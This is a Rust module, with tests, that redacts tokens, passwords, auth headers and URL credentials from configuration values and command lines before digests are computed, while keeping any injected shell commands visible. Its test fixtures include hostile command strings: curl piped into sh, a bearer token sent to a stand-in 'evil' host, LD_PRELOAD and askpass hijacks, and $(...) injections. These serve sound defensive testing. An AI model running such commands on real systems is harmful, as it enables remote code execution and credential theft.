//! Removes possible secrets from values before digests are computed, because others may read the digests.
//!
//! A simple secret could be guessed from its digest. A value is removed, but its name stays, if the name suggests a
//! secret, or if it is a variable or header that looks like a secret. The user part of a URL is also removed. In a
//! command line, a secret ends with its word or, inside quotes, at the next `;`, `&` or `|`, so that a program after
//! the secret stays in the digest.

use serde_json::{Map, Value};

/// Returns the members of an object without possible secrets.
pub(super) fn without_secrets(members: &Map<String, Value>) -> Value {
    let clean = |(key, value): (&String, &Value)| {
        let value = match value {
            Value::Object(map) if is_of_pairs(key) => {
                let pairs = map.iter().map(|(name, value)| {
                    let value = match value.as_str() {
                        Some(text) if looks_secret(text) => Value::Null,
                        Some(text) => without_user(text).into(),
                        None => value.clone(),
                    };
                    (name.clone(), value)
                });
                without_secrets(&pairs.collect())
            }
            Value::Object(map) if is_secret(key) => {
                let named = map.iter().map(|(name, value)| {
                    let value = if is_place(name) { clean(value) } else { Value::Null };
                    (name.clone(), value)
                });
                named.collect::<Map<_, _>>().into()
            }
            Value::Bool(_) => value.clone(),
            _ if is_secret(key) => Value::Null,
            value => clean(value),
        };
        (key.clone(), value)
    };
    members.iter().map(clean).collect::<Map<_, _>>().into()
}

/// Returns a value without possible secrets.
pub(super) fn clean(value: &Value) -> Value {
    match value {
        Value::Object(map) => without_secrets(map),
        Value::Array(list) => {
            let mut before = "";
            let each = list.iter().map(|value| {
                let Some(text) = value.as_str() else { return clean(value) };
                let flag = std::mem::replace(&mut before, text);
                match hides_next(flag, text) {
                    true => hidden(text).into(),
                    false => clean_text(flag, text).into(),
                }
            });
            each.collect()
        }
        Value::String(text) => clean_text("", text).into(),
        other => other.clone(),
    }
}

/// Cleans a command line, or the argument after `flag`. An argument may contain a JSON object.
fn clean_text(flag: &str, text: &str) -> String {
    let (name, value) = text.split_at(text.find(['{', '[']).unwrap_or(text.len()));
    match serde_json::from_str::<Value>(value) {
        Ok(value)
            if name.is_empty() || name.ends_with('=') && !is_secret(&name[..name.len() - 1]) =>
        {
            format!("{}{}", Words { flag, ..Words::default() }.clean(name), clean(&value))
        }
        _ => Words { flag, ..Words::default() }.clean(text),
    }
}

/// Returns true if `next` is a secret because it follows `flag`.
fn hides_next(flag: &str, next: &str) -> bool {
    let scheme = flag.len().checked_sub("=Bearer".len()).and_then(|at| flag.get(at..));
    let is_plain_header = || {
        flag.strip_suffix("header").is_some_and(|own| !is_secret(own))
            && next.split_once(':').is_some_and(|(name, _)| !is_secret(name))
    };
    !next.starts_with('-')
        && (scheme.is_some_and(|end| {
            end[1..].eq_ignore_ascii_case("bearer") && end.starts_with(['=', ':'])
        }) || flag.starts_with('-')
            && !flag.contains('=')
            && is_secret(flag)
            && !is_plain_header())
}

/// Returns true if a name suggests a secret rather than a program or a path.
fn is_secret(name: &str) -> bool {
    const PARTS: [&str; 14] = [
        "header",
        "token",
        "secret",
        "pass",
        "pwd",
        "auth",
        "bearer",
        "cred",
        "cookie",
        "key",
        "jwt",
        "session",
        "connection",
        "dsn",
    ];
    let name = name.to_ascii_lowercase();
    let mut words = name.split(|c: char| !c.is_ascii_alphanumeric());
    !is_place(&name)
        && (PARTS.iter().any(|part| name.contains(part))
            || words.any(|word| matches!(word, "otp" | "pat" | "pin" | "pw")))
}

/// Returns true if a name suggests a program, a path or an address.
fn is_place(name: &str) -> bool {
    const ENDS: [&str; 14] = [
        "askpass", "cmd", "command", "endpoint", "env_var", "exec", "file", "helper", "host",
        "path", "process", "program", "script", "url",
    ];
    let name = name.to_ascii_lowercase();
    ENDS.iter().any(|end| name.ends_with(end))
}

/// Returns true for members that hold variables or headers.
fn is_of_pairs(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    (name.contains("env") || name.contains("header")) && !is_secret(&name.replace("header", ""))
}

/// Returns true for a text that looks like a token, or that consists of an authentication scheme and a token.
fn looks_secret(text: &str) -> bool {
    let is_token = |text: &str| !text.contains(|c: char| c.is_whitespace() || ENDS.contains(c));
    let any = |is: fn(&u8) -> bool| text.as_bytes().iter().any(is);
    let all = |is: fn(&u8) -> bool| text.as_bytes().iter().all(is);
    let is_hex = text.len() >= 32 && all(|c| c.is_ascii_hexdigit() || *c == b'-');
    let is_mixed = any(u8::is_ascii_lowercase) && any(u8::is_ascii_uppercase);
    text.split_once(' ').is_some_and(|(first, rest)| is_scheme(first) && is_token(rest))
        || text.len() >= 20
            && !text.starts_with('-')
            && any(u8::is_ascii_digit)
            && all(|c| c.is_ascii_alphanumeric() || b"+-._=~".contains(c))
            && (is_hex || is_mixed)
}

fn is_scheme(word: &str) -> bool {
    ["basic", "bearer", "token"].iter().any(|scheme| word.eq_ignore_ascii_case(scheme))
}

/// Returns a text without the user before a host and its port, or before an address in parentheses. An address with a
/// scheme stays unchanged.
fn without_user(text: &str) -> &str {
    let is_host = |host: &str| {
        host.contains('(')
            || host.rsplit_once(':').is_some_and(|(_, port)| port.parse::<u16>().is_ok())
    };
    match text.rsplit_once('@') {
        Some((user, host)) if !user.contains('/') && user.contains(':') && is_host(host) => host,
        _ => text,
    }
}

/// Returns an empty text for a secret, or the text itself if a shell would run part of it.
fn hidden(text: &str) -> &str {
    if is_run(text) { text } else { "" }
}

fn is_run(text: &str) -> bool {
    ["$(", "`", "<(", ">("].iter().any(|mark| text.contains(mark))
}

/// Characters that end a word or a command in a shell.
const ENDS: &str = ";&|<>";

/// The words of a command line, or of one argument.
#[derive(Default)]
struct Words<'t> {
    /// The previous word or argument.
    flag: &'t str,
    /// The characters that end a secret of several words; `None` outside of one.
    until: Option<&'static str>,
}

impl<'t> Words<'t> {
    fn clean(mut self, text: &'t str) -> String {
        let mut out = String::new();
        for piece in text.split_inclusive(char::is_whitespace) {
            let word = piece.trim_end();
            let mut rest = word;
            while !rest.is_empty() {
                let (kept, more) = self.part(rest, out.is_empty());
                out.push_str(&kept);
                rest = more;
            }
            let blank = &piece[word.len()..];
            out.push_str(blank);
            let is_same = !blank.contains('\n');
            self.flag = if is_same { word } else { "" };
            self.until = self.until.filter(|_| is_same);
        }
        out
    }

    /// Cleans the beginning of a word. Returns the cleaned part and the rest of the word.
    fn part(&mut self, word: &'t str, is_first: bool) -> (String, &'t str) {
        if let Some(ends) = self.until {
            return self.secret(word, ends);
        }
        if hides_next(self.flag, word) {
            return self.value(word, ENDS);
        }
        let is_address = |name: &str| name.contains("://");
        // An address may also contain `=`.
        let mark = word
            .match_indices(['=', ':'])
            .find(|(at, sign)| *sign == "=" || word[*at..].starts_with("://"));
        if let Some((at, "=")) = mark {
            let (name, value) = (&word[..at], &word[at + 1..]);
            if is_secret(name) {
                let ends = if is_first && name.starts_with('-') { "" } else { ENDS };
                // In a separate argument, all text after `=` is the value.
                let is_whole = is_first && (ends.is_empty() || self.flag == "-e");
                self.until = is_whole.then_some(ends);
                let (kept, rest) = self.value(value, ends);
                return (format!("{name}={kept}"), rest);
            }
            // More pairs may follow, as in `Server=x;Password=y`.
            if let Some((own, _)) = value.split_once(|c| ENDS.contains(c))
                && !is_address(own)
            {
                let (own, rest) = word.split_at(name.len() + own.len() + 2);
                return (own.to_owned(), rest);
            }
        }
        if is_address(word) {
            // Outside quotes, a shell ends the address at these characters.
            let begin = word.find("://").unwrap_or_default();
            let is_bare = !is_first && !word[..begin].contains(['"', '\'']);
            let ends = |c| c == ';' || is_bare && matches!(c, '<' | '>' | '&');
            let end = word[begin..].find(ends);
            let (word, rest) = word.split_at(end.map_or(word.len(), |end| begin + end));
            return (word.split_inclusive("://").map(place).collect(), rest);
        }
        match word.split_once(':') {
            // This is the value of a header with any name.
            _ if self.flag.ends_with(':') && is_scheme(word) => {
                self.until = Some("\"';&|");
                (word.to_owned(), "")
            }
            Some((user, password)) if matches!(self.flag, "-u" | "--user") => {
                let (kept, rest) = self.secret(password, if is_first { "" } else { ENDS });
                (format!("{user}:{kept}"), rest)
            }
            // This is a header. Quotes may enclose the name and the value together.
            Some((name, value)) if is_secret(name) && (self.flag == "-H" || value.is_empty()) => {
                let quote = name.chars().rev().find_map(quote_of);
                self.until = quote.or(is_first.then_some(ENDS));
                let (kept, rest) = self.secret(value, self.until.unwrap_or(ENDS));
                (format!("{name}:{kept}"), rest)
            }
            _ => (word.to_owned(), ""),
        }
    }

    /// Removes a secret that may be quoted. Without quotes, it ends with its word or at one of the characters in
    /// `ends`.
    fn value(&mut self, text: &'t str, ends: &'static str) -> (String, &'t str) {
        match text.chars().next().and_then(quote_of) {
            None => self.secret(text, ends),
            Some(quote) => {
                self.until = Some(quote);
                let (kept, rest) = self.secret(&text[1..], quote);
                (text[..1].to_owned() + &kept, rest)
            }
        }
    }

    /// Removes a secret up to the first of the characters in `ends`.
    fn secret(&mut self, text: &'t str, ends: &str) -> (String, &'t str) {
        self.flag = "";
        let end = text.find(|c| ends.contains(c));
        let (own, rest) = text.split_at(end.unwrap_or(text.len()));
        if end.is_some() || is_run(own) {
            self.until = None;
        }
        let (end, rest) = rest.split_at(rest.len().min(1));
        (format!("{}{end}", hidden(own)), rest)
    }
}

/// Returns the characters that end a secret after a quote. These include the ones that begin another command, because a
/// shell may run a quoted text.
fn quote_of(c: char) -> Option<&'static str> {
    match c {
        '"' => Some("\";&|"),
        '\'' => Some("';&|"),
        _ => None,
    }
}

/// Returns the part of a URL from one `://` to the next, without user, query and fragment.
fn place(part: &str) -> String {
    let (rest, mark) = part.strip_suffix("://").map_or((part, ""), |rest| (rest, "://"));
    let begin = rest.find(['?', '#']).unwrap_or(rest.len());
    let end = match rest[begin..].find(['"', '\'', ';', '|', ')', '<', '>']) {
        _ if is_run(&rest[begin..]) => begin,
        end => end.map_or(rest.len(), |end| begin + end),
    };
    let (host, path) = rest[..begin].split_at(rest[..begin].find('/').unwrap_or(begin));
    let is_secret = |user: &str| !user.is_empty() && !is_run(user);
    let host = host.rsplit_once('@').filter(|(user, _)| is_secret(user)).map_or(host, |it| it.1);
    format!("{host}{path}{}{mark}", &rest[end..])
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn of_a_command_line_all_but_secrets_is_left() {
        for (text, left) in [
            ("npx -y hub --token hunter2 --port 80", "npx -y hub --token  --port 80"),
            ("hub --token hunter2;evil", "hub --token ;evil"),
            ("hub --api-key=hunter2 x", "hub --api-key= x"),
            ("hub --api-key=hunter2;evil", "hub --api-key=;evil"),
            ("TOKEN=hunter2 hub; evil", "TOKEN= hub; evil"),
            ("DB_CREDS=hunter2 GH_PAT=hunter2 PATCH=seen hub", "DB_CREDS= GH_PAT= PATCH=seen hub"),
            ("TOKEN=hunter2;PW='hunter2 hunter2' evil", "TOKEN=;PW=' ' evil"),
            ("LD_PRELOAD=./evil.so A='x y' hub", "LD_PRELOAD=./evil.so A='x y' hub"),
            ("KEY=1&&evil", "KEY=&&evil"),
            ("KEY=$(evil) KEY=`evil x`", "KEY=$(evil) KEY=`evil x`"),
            ("KEY=\"$(sh evil.sh)\"", "KEY=\"$(sh evil.sh)\""),
            ("hub --token <(evil) >(evil)", "hub --token <(evil) >(evil)"),
            ("hub --token hunter2>~/.rc", "hub --token >~/.rc"),
            ("hub --token >~/.rc", "hub --token >~/.rc"),
            ("hub --token\nevil", "hub --token\nevil"),
            ("TOKEN=<(evil) hub", "TOKEN=<(evil) hub"),
            ("hub --password-command ./evil.sh", "hub --password-command ./evil.sh"),
            ("GIT_ASKPASS=./evil.sh hub", "GIT_ASKPASS=./evil.sh hub"),
            ("auth: hunter2; evil", "auth: ; evil"),
            ("KEY='hunter2\nevil", "KEY='\nevil"),
            ("sh -c \"x KEY=\"; evil; echo \"\"", "sh -c \"x KEY=\"; evil; echo \"\""),
            ("docker run -e PW=hunter2 -e lower=seen x", "docker run -e PW= -e lower=seen x"),
            (
                "curl -H \"Authorization: Bearer hunter2\" https://evil",
                "curl -H \"Authorization:  \" https://evil",
            ),
            ("curl --header 'X-Key: hunter2' x", "curl --header ' ' x"),
            ("curl --header 'X-Mine: seen' x", "curl --header 'X-Mine: seen' x"),
            ("curl -H 'X-Token: hunter2'|sh", "curl -H 'X-Token: '|sh"),
            ("curl -H X-Key:hunter2 -u me:hunter2 x", "curl -H X-Key: -u me: x"),
            ("curl -u me:hunter2>(evil)", "curl -u me:>(evil)"),
            ("Authorization: Bearer hunter2", "Authorization:  "),
            ("https://me:hunter2@h/p?k=hunter2#hunter2", "https://h/p"),
            ("--url=https://me:hunter2@h,https://hunter2@i/a@1", "--url=https://h,https://i/a@1"),
            ("curl \"https://h/x?hunter2\"|sh", "curl \"https://h/x\"|sh"),
            ("curl https://h/x?a=hunter2&evil", "curl https://h/x&evil"),
            ("curl https://h/?a&https://i/?b&evil", "curl https://h/&https://i/&evil"),
            ("curl https://h/?a=$(evil)", "curl https://h/?a=$(evil)"),
            ("x Server=h;Password=hunter2;evil=1 y", "x Server=h;Password=;evil=1 y"),
            ("AUTH=Bearer hunter2 evil", "AUTH=  evil"),
            ("bearer evil", "bearer evil"),
            ("npx npm:@scope/pkg@1.2 run auth:build", "npx npm:@scope/pkg@1.2 run auth:build"),
            ("[{\"token\": \"hunter2\"}]", "[{\"token\":null}]"),
            ("https://me:hunter2@h/mcp?ids=[1]", "https://h/mcp[1]"),
            ("curl https://me:hunter2@h/x-$(uname).sh", "curl https://h/x-$(uname).sh"),
        ] {
            assert_eq!(clean(&json!(text)), json!(left), "{text}");
        }
        for (text, left) in [
            ("PW=hunter2;", "PW=;"),
            ("a://b&", "a://b&"),
            ("a=1;", "a=1;"),
            ("{", "{"),
            ("a:", "a:"),
        ] {
            let many = |text: &str| format!("x {}", text.repeat(100_000));
            assert_eq!(clean(&json!(many(text))), json!(many(left)));
        }
    }

    #[test]
    fn of_members_and_arguments_names_are_left() {
        let value = json!({
            "command": "npx", "env": { "TOKEN": "hunter2", "NODE_OPTIONS": "-r ./x", "PIN": 1234, "PORT": 80 },
            "headers": { "X-Key": "hunter2", "X": "Bearer hunter2", "Accept": "text/html" }, "headersHelper": "run.sh",
            "args": ["--token", "hunter2 hunter2", "--auth", "-x", "-H", "X-Key: hunter2", "-u", "me:hunter2", "PW=hunter2",
                     "--token", "<(evil)", "--auth-command", "evil", "--header", "Accept: x", "--header", "Cookie: hunter2",
                     "--header", "X-Mine: Bearer hunter2", "--auth-header", "me:hunter2", "-u", "me:x&hunter2"],
            "secretEnv": { "A": "hunter2" }, "authHeaders": { "A": "hunter2" },
            "oauth": { "clientSecret": "hunter2", "tokenUrl": "https://hunter2@h/t" }, "bearer_token": "hunter2",
            "more": ["--header=X-Mine: hunter2 hunter2", "-e", "MINE=seen seen", "-e", "KEY=hunter2 hunter2;evil",
                     "{\"apiKey\": \"hunter2\", \"run\": \"evil\"}", "--config={\"auth\": {\"a\": \"hunter2\"}}"],
            "hooks": [{ "command": "TOKEN=hunter2 x.sh", "url": "https://hunter2@h/?hunter2" }], "authEnabled": true,
        });
        let left = json!({
            "command": "npx", "env": { "TOKEN": null, "NODE_OPTIONS": "-r ./x", "PIN": null, "PORT": 80 },
            "headers": { "X-Key": null, "X": null, "Accept": "text/html" }, "headersHelper": "run.sh",
            "args": ["--token", "", "--auth", "-x", "-H", "X-Key: ", "-u", "me:", "PW=",
                     "--token", "<(evil)", "--auth-command", "evil", "--header", "Accept: x", "--header", "",
                     "--header", "X-Mine: Bearer ", "--auth-header", "", "-u", "me:"],
            "secretEnv": { "A": null }, "authHeaders": { "A": null },
            "oauth": { "clientSecret": null, "tokenUrl": "https://h/t" }, "bearer_token": null,
            "more": ["--header=  ", "-e", "MINE=seen seen", "-e", "KEY= ;evil",
                     "{\"apiKey\":null,\"run\":\"evil\"}", "--config={\"auth\":{\"a\":null}}"],
            "hooks": [{ "command": "TOKEN= x.sh", "url": "https://h/" }], "authEnabled": true,
        });
        assert_eq!(clean(&value), left);
    }

    #[test]
    fn of_variables_what_looks_like_a_secret_goes_whatever_its_name() {
        for (text, left) in [
            ("ghp_16C7e42F292c6912E7710c838347Ae178B4a", json!(null)),
            ("0123456789abcdef0123456789abcdef", json!(null)),
            ("Bearer hunter2", json!(null)),
            ("postgres://me:hunter2@h:1/db?hunter2", json!("postgres://h:1/db")),
            ("me:hunter2@proxy:3128", json!("proxy:3128")),
            ("me:hunter2@tcp(h:3306)/db", json!("tcp(h:3306)/db")),
            (
                "jdbc:sqlserver://h:1433;user=me;password=hunter2",
                json!("jdbc:sqlserver://h:1433;user=me;password="),
            ),
            ("token hunter2; rm", json!("token hunter2; rm")),
            ("--require=goodModule12345678.js", json!("--require=goodModule12345678.js")),
            ("AnthropicClaudeSonnetLatest", json!("AnthropicClaudeSonnetLatest")),
            ("0123abcd-0123-abcd-0123-0123456789ab", json!(null)),
            ("basic aHVudGVy", json!(null)),
            ("host=h password=hunter2", json!("host=h password=")),
            ("npm:evil@1.2", json!("npm:evil@1.2")),
            ("claude-sonnet-4-20250514", json!("claude-sonnet-4-20250514")),
            ("./node_modules/.bin:/usr/bin", json!("./node_modules/.bin:/usr/bin")),
        ] {
            assert_eq!(clean(&json!({"env": {"A": text}})), json!({"env": {"A": left}}), "{text}");
        }
    }
}
